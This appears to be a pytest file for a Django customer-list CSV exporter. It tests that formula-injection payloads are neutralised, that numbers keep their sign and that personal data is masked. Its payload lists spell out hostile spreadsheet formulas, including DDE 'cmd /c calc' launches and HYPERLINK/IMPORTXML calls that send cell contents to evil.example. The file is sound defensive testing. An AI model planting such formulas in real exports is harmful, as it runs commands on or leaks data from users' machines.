"""A list as a file: no cell runs in a spreadsheet, no row is lost, nothing masked gets out."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.db import models

from core.lists import columns
from core.lists.csv import defused, write_csv
from core.lists.reading import CHUNK
from customers.models import Customer
from customers.notes.models import labels_of_outer_customer
from followups.models import Alert
from tests.factories import (
    NOW,
    make_alert,
    make_customer,
    make_label,
    make_partner,
    put_label,
)

COLUMNS = (
    columns.Column("number", "客户ID"),
    columns.Column("account_name", "账号名"),
    columns.Column("phone", "移动电话", mask="phone"),
    columns.Column("email", "邮箱", mask="email"),
    columns.Money("available_amount", "可用额度（元）"),
    columns.Actions("actions", "操作", ("pk",)),
)
PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd";"/c calc";"x")',
    "+1+1",
    "+cmd|'/c calc'!A1",
    "+8613800001111x",
    "-1+1",
    "-2+3+cmd|'/c calc'!A1",
    "--1",
    "@SUM(1,1)",
    "@evil",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BODIES = (
    *("1+1", "A1", "cmd|'/c calc'!A1", 'HYPERLINK("https://evil.example","x")', "SUM(1,1)*1"),
    *(
        "=1",
        "@x",
        '"x"',
        "'x'",
        ",1",
        ";1",
        "\n1",
        "\r\n=1",
        "１+１",
        "1e5x",
        "0x1F",
        " 1 ",
        "深圳",
    ),
    *("{=1}", "rundll32|'x'!A", "(1)"),
)
GENERATED = [start + body for start in STARTS for body in BODIES]
NUMBERS = ["-1", "-12.50", "+3", "-0.000000000000000001", "0", "12.5"]


def written(rows, shown=COLUMNS, **options):
    """The file's text, and its cells as a spreadsheet reads them."""
    out = io.StringIO(newline="")
    count = write_csv(rows, shown, out, at=NOW, **options)
    cells = list(csv.reader(io.StringIO(out.getvalue().removeprefix("\ufeff"), newline="")))
    assert count == len(cells) - 1
    return out.getvalue(), cells


def test_there_are_twenty_payloads():
    assert len(set(PAYLOADS)) == 20


@pytest.mark.parametrize("text", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_a_spreadsheet_would_run_becomes_text(text):
    assert defused(text) == "'" + text


def test_of_two_hundred_payloads_none_stays_alive():
    assert len(set(GENERATED)) >= 200
    assert not [text for text in GENERATED if defused(text) != "'" + text]


@pytest.mark.django_db
def test_of_two_hundred_payloads_in_one_file_none_stays_alive():
    partner = make_partner()
    for text in GENERATED:
        make_customer(partner=partner, account_name=text)
    rows = Customer.objects.filter(partner=partner).order_by("pk")
    assert [row[1] for row in written(rows)[1][1:]] == ["'" + text for text in GENERATED]


@pytest.mark.parametrize("text", NUMBERS)
def test_a_number_keeps_its_sign_and_stays_a_number(text):
    assert defused(text) == text


@pytest.mark.parametrize("text", ["", "深圳云帆", "a=b", "1+1", "a@example.com"])
def test_harmless_text_stays_as_it_is(text):
    assert defused(text) == text


@pytest.mark.django_db
def test_every_cell_that_comes_from_data_is_defused():
    partner = make_partner()
    for text in PAYLOADS:
        make_customer(partner=partner, account_name=text)
    rows = Customer.objects.filter(partner=partner).order_by("pk")
    assert [row[1] for row in written(rows)[1][1:]] == ["'" + text for text in PAYLOADS]


@pytest.mark.django_db
def test_the_file_says_in_which_encoding_it_is_and_names_its_columns():
    text, cells = written(Customer.objects.none())
    assert text.startswith("\ufeff")
    assert cells == [["客户ID", "账号名", "移动电话", "邮箱", "可用额度（元）"]]


@pytest.mark.django_db
def test_the_rows_are_those_of_the_list_in_its_order(monkeypatch):
    assert CHUNK > 3
    monkeypatch.setattr("core.lists.reading.CHUNK", 3)  # several batches, the last not full
    partner = make_partner()
    for n in range(7):
        make_customer(partner=partner, number=f"n-{n}")
    rows = Customer.objects.filter(partner=partner).order_by("-pk")
    assert [row[0] for row in written(rows)[1][1:]] == list(rows.values_list("number", flat=True))


@pytest.mark.django_db
def test_an_amount_below_zero_is_a_number_in_the_file():
    customer = make_customer(association_type="resale", available_amount=Decimal("-1234.50"))
    row = written(Customer.objects.filter(pk=customer.pk))[1][1]
    assert Decimal(row[4]) == Decimal("-1234.50")


@pytest.mark.django_db
def test_a_name_with_commas_quotes_and_breaks_is_one_cell():
    names = ['云帆, "深圳"', "一行\n两行", "\r\n", '"', ","]
    partner = make_partner()
    for name in names:
        make_customer(partner=partner, account_name=name)
    rows = Customer.objects.filter(partner=partner).order_by("pk")
    found = [row[1] for row in written(rows)[1][1:]]
    assert [text.removeprefix("'") for text in found] == names


@pytest.mark.django_db
def test_json_is_read_as_it_is_elsewhere(cast):
    customer = make_customer(manager=cast.jing)
    put_label(customer=customer, label=make_label(by=cast.yun, name="华南"))
    make_alert(customer=customer, facts={"days": 7, "recent": "1.00", "last": None})
    labels, facts = columns.Column("labels", "标签"), columns.Column("facts", "数据")
    rows = Customer.objects.filter(pk=customer.pk).annotate(labels=labels_of_outer_customer())
    assert written(rows, [labels])[1][1] == [str(rows.get().labels)]
    assert rows.get().labels[0]["name"] == "华南"
    assert written(Alert.objects.all(), [facts])[1][1] == [str(Alert.objects.get().facts)]


class Twice(models.TextField):
    def from_db_value(self, value, expression, connection):
        return value * 2


@pytest.mark.django_db
def test_fields_that_convert_what_the_database_tells_are_read_as_well():
    customer = make_customer(number="ab")
    rows = Customer.objects.filter(pk=customer.pk)
    rows = rows.annotate(twice=models.ExpressionWrapper(models.F("number"), Twice()))
    assert written(rows, [columns.Column("twice", "两次")])[1][1] == ["abab"]


@pytest.mark.django_db
def test_an_instant_in_the_file_is_beijings():
    customer = make_customer(associated_at=datetime(2026, 11, 20, 16, 30, tzinfo=UTC))
    out = io.StringIO(newline="")
    when = columns.Instant("associated_at", "关联时间")
    write_csv(Customer.objects.filter(pk=customer.pk), [when], out, at=NOW)
    assert out.getvalue().splitlines()[1] == "2026-11-21 00:30:00"


@pytest.fixture
def contact(db):
    customer = make_customer(phone="13800001111", email="lin@example.com")
    return Customer.objects.filter(pk=customer.pk)


def test_personal_data_is_masked_in_the_file(contact):
    text, cells = written(contact)
    assert "13800001111" not in text and "lin@example.com" not in text
    assert cells[1][2:4] == ["138****1111", "l***@example.com"]


def test_what_was_revealed_is_in_the_file_and_nothing_else(contact):
    _text, cells = written(contact, revealed=frozenset({"phone"}))
    assert cells[1][2:4] == ["13800001111", "l***@example.com"]
